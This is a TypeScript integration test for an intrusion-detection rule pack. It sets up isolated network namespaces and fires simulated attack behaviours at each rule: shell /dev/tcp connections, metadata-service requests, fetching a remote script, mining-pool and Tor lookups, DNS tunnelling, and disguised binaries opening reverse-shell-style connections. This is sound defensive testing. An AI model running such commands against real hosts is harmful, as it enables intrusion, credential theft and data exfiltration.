// The project's rules over connections and names, each fired by what it looks for, done for real between two network namespaces.

import { afterAll, beforeAll, expect, test } from 'bun:test';
import { execFileSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { agent, guardKernel, scratch, text } from './agent.ts';

guardKernel();

const PACK = join(import.meta.dir, '../../rules.d');
const HERE = `pn${process.pid}a`;
const PEER = `pn${process.pid}b`;
/** The peer: in the same network, in the internet, and what clouds have beside their hosts. */
const NEAR = '10.77.1.2';
const OUTSIDE = '203.0.113.66';
const SERVICES = ['169.254.169.254', '168.63.129.16'];
const HOSTS = Array.from({ length: 21 }, (_, i) => `10.77.2.${i + 1}`);
const PORTS = [22, 25, 80, 443, 2375, 3333, 4444, 9001, 10250];

const range = (from: number, count: number): string => Array.from({ length: count }, (_, i) => from + i).join(' ');
const PERL = `perl ${join(import.meta.dir, 'programs/network.pl')}`;
const ask = (...names: string[]): string => `${PERL} ask ${OUTSIDE} 1 ${names.join(' ')}`;
const fetchName = (name: string): string => `curl -s -m 2 http://${name}/`;
const numbered = (count: number, name: (i: number) => string): string[] =>
  Array.from({ length: count }, (_, i) => name(i));

/** The rule's title; what is done in the host's namespace, in a mount namespace of its own; what the peer does. */
type Row = readonly [title: string, here: string, there?: string];

const ROWS: readonly Row[] = [
  ['Interpreter or network tool connected to a port that back-connect tools use', `${PERL} ports ${OUTSIDE} 4444`],
  ['Cloud metadata service asked by a general tool', `curl -s -m 2 http://${SERVICES[0]}/`],
  ['Connection to a port that mining pools use', `${PERL} ports ${OUTSIDE} 3333`],
  [
    'Program in a temporary directory or in memory opened a connection',
    `mount -t tmpfs none /var/tmp; cp /usr/bin/perl /var/tmp/x; /var/tmp/x ${PERL.slice(5)} ports ${OUTSIDE} 443`,
  ],
  ['Shell opened a network connection itself', `bash -c ': < /dev/tcp/${OUTSIDE}/443'`],
  ['Shell knocked at a port of its own host where nothing listens', `bash -c ': < /dev/tcp/127.0.0.1/7'`],
  [
    'Connection by a program that has nothing to do with networks',
    `mount --bind /usr/bin/perl /usr/bin/tail; tail ${PERL.slice(5)} ports ${OUTSIDE} 443`,
  ],
  ["Azure's host agent asked by a general tool", `curl -s -m 2 http://${SERVICES[1]}/machine`],
  [
    'Cloud metadata service asked by a web server or proxy',
    `mount -t tmpfs none /opt; cp /usr/bin/perl /opt/nginx; /opt/nginx ${PERL.slice(5)} ports ${SERVICES[0]} 80`,
  ],
  ['Kubelet or etcd asked by a general tool', `curl -s -m 2 http://${NEAR}:10250/pods`],
  [
    'Database or control port let in somebody from outside',
    `${PERL} listen 6379`,
    `sleep 0.5; ${PERL} from ${OUTSIDE} 10.77.1.1 6379`,
  ],
  ['Container engine asked over the network without TLS', `curl -s -m 2 http://${NEAR}:2375/containers/json`],
  ['Download tool of a script fetched from an address without a name', `curl -s -m 2 http://${OUTSIDE}/x.sh`],
  [
    'Hidden program, or one among data, opened a connection',
    `mount -t tmpfs none /opt; cp /usr/bin/perl /opt/.x; /opt/.x ${PERL.slice(5)} ports ${OUTSIDE} 443`,
  ],
  ['Logins or databases of many hosts tried', `${PERL} hosts 22 ${HOSTS.join(' ')}`],
  ['Mail sent to another host by a program that is no mailer', `${PERL} ports ${OUTSIDE} 25`],
  ['Many ports of one host tried', `${PERL} ports ${NEAR} ${range(100, 21)}`],
  ['Many ports of this host tried from the own network', 'sleep 0.2', `${PERL} ports 10.77.1.1 ${range(100, 16)}`],
  ['Many ports of one host tried with packets made by hand', `${PERL} knock 10.77.1.1 ${NEAR} ${range(200, 25)}`],
  ["SSH connection by a service's account", `setpriv --reuid www-data --clear-groups ${PERL} ports ${NEAR} 22`],
  [
    'Tool in a shell of a web server connected outside',
    `mount -t tmpfs none /opt; cp /bin/bash /opt/php-fpm8.2; /opt/php-fpm8.2 -c 'sh -c "curl -s -m 2 http://${OUTSIDE}/a; true"; true'`,
  ],
  [
    'Shell or netcat listens for connections',
    `mount -t tmpfs none /opt; cp /usr/bin/perl /opt/ncat; timeout 1 /opt/ncat ${PERL.slice(5)} listen 4555`,
  ],
  ['Connection through Tor or to one of its relays', `${PERL} ports ${OUTSIDE} 9001`],
  ['Name of a mining pool looked up', ask('eu.supportxmr.com')],
  ['Name that tells whether an attack worked looked up', ask('c59hq1x.oast.fun')],
  ['Name whose address changes at will looked up by a general tool', fetchName('c2.duckdns.org')],
  ['Many encoded names asked for', ask(...numbered(55, i => `a1b2c3d4e5f6g7h${i}.t.example.org`))],
  ["Many domains asked for that don't exist", ask(...numbered(22, i => `nobody${i}has.com`))],
  ['Much text asked of DNS', `${PERL} ask ${OUTSIDE} 16 ${numbered(22, i => `${i}.t.example.org`).join(' ')}`],
  ['Raw bytes carried by DNS', `${PERL} raw ${OUTSIDE}`],
  ["Service that tells one's own address looked up by a general tool", fetchName('ifconfig.me')],
  ['Paste or upload site looked up by a general tool', fetchName('pastebin.com')],
  ['Resolver over HTTPS looked up by a program that is no browser', fetchName('dns.google')],
  ['Name of a Tor service looked up', ask('example7abcd.onion')],
  ['Name of a tunnel service looked up', ask('x.ngrok-free.app')],
  ['Program connected to another host and started a shell', `${PERL} start ${OUTSIDE} 443`],
  ['Program connected to another host and became a shell', `${PERL} become ${OUTSIDE} 443`],
];

/** One learns for a week, one is about containers. */
const ELSEWHERE = [
  'Name server outside asked that this host never asked before',
  'Network tool connected from a container',
];

const titlesOf = (glob: string): string[] =>
  [...new Bun.Glob(glob).scanSync({ cwd: PACK })]
    .map(name => readFileSync(join(PACK, name), 'utf8'))
    .flatMap(file => {
      const documents = file.split('\n---\n');
      const alerting = documents.filter(document => /^correlation:/m.test(document));
      return alerting.length > 0 ? alerting : documents;
    })
    .map(rule => /^title: *'?(.+?)'?$/m.exec(rule)![1]!.replaceAll("''", "'"));

const ip = (...args: string[]) => execFileSync('ip', args, { stdio: ['ignore', 'ignore', 'pipe'] });
const resolver = join(scratch, 'resolv.conf');

async function does(namespace: string, script: string): Promise<void> {
  const whole = `mount --bind ${resolver} /etc/resolv.conf; ${script}`;
  const child = Bun.spawn(['ip', 'netns', 'exec', namespace, 'setsid', '--wait', 'sh', '-c', whole], {
    stdio: ['ignore', 'ignore', 'ignore'],
    timeout: 15_000,
  });
  await child.exited;
}

let peer: ReturnType<typeof Bun.spawn> | undefined;

beforeAll(async () => {
  writeFileSync(resolver, `nameserver ${OUTSIDE}\n`);
  for (const name of [HERE, PEER]) {
    ip('netns', 'add', name);
    ip('-n', name, 'link', 'set', 'lo', 'up');
  }
  ip('link', 'add', 'eth0', 'netns', HERE, 'type', 'veth', 'peer', 'name', 'eth0', 'netns', PEER);
  for (const [name, own, other] of [
    [HERE, '10.77.1.1', NEAR],
    [PEER, NEAR, '10.77.1.1'],
  ] as const) {
    ip('-n', name, 'address', 'add', `${own}/24`, 'dev', 'eth0');
    ip('-n', name, 'link', 'set', 'eth0', 'up');
    ip('-n', name, 'route', 'add', 'default', 'via', other);
  }
  for (const address of [OUTSIDE, ...SERVICES, ...HOSTS])
    ip('-n', PEER, 'address', 'add', `${address}/32`, 'dev', 'lo');
  const serve = `exec ${PERL} serve ${OUTSIDE} ${PORTS.join(' ')}`;
  const child = Bun.spawn(['ip', 'netns', 'exec', PEER, 'sh', '-c', serve], { stdio: ['ignore', 'pipe', 'inherit'] });
  peer = child;
  const { value } = await child.stdout.getReader().read();
  expect(new TextDecoder().decode(value)).toBe('ready\n');
});

afterAll(() => {
  peer?.kill();
  for (const name of [HERE, PEER]) ip('netns', 'delete', name);
});

test('each rule over connections and names fires at what it looks for', async () => {
  const titles = ['network/*.yml', 'dns/*.yml', 'sequences/shell_after_connection.yml'].flatMap(titlesOf);
  expect([...ROWS.map(([title]) => title), ...ELSEWHERE].sort()).toEqual(titles.sort());

  const run = await agent({
    rules: PACK,
    args: ['--min-level', 'low', '--source', 'audit,pcap'],
    wrap: ['ip', 'netns', 'exec', HERE],
  });
  for (const [, here, there] of ROWS) {
    await Promise.all([does(HERE, here), ...(there === undefined ? [] : [does(PEER, there)])]);
  }
  const isTold = (title: string): boolean => run.alerts().some(line => text(line, 'rule.name') === title);
  for (let i = 0; i < 40 && !ROWS.every(([title]) => isTold(title)); i++) await Bun.sleep(250);
  expect(ROWS.map(([title]) => title).filter(title => !isTold(title))).toEqual([]);
  expect(await run.stop()).toBe(0);
}, 120_000);
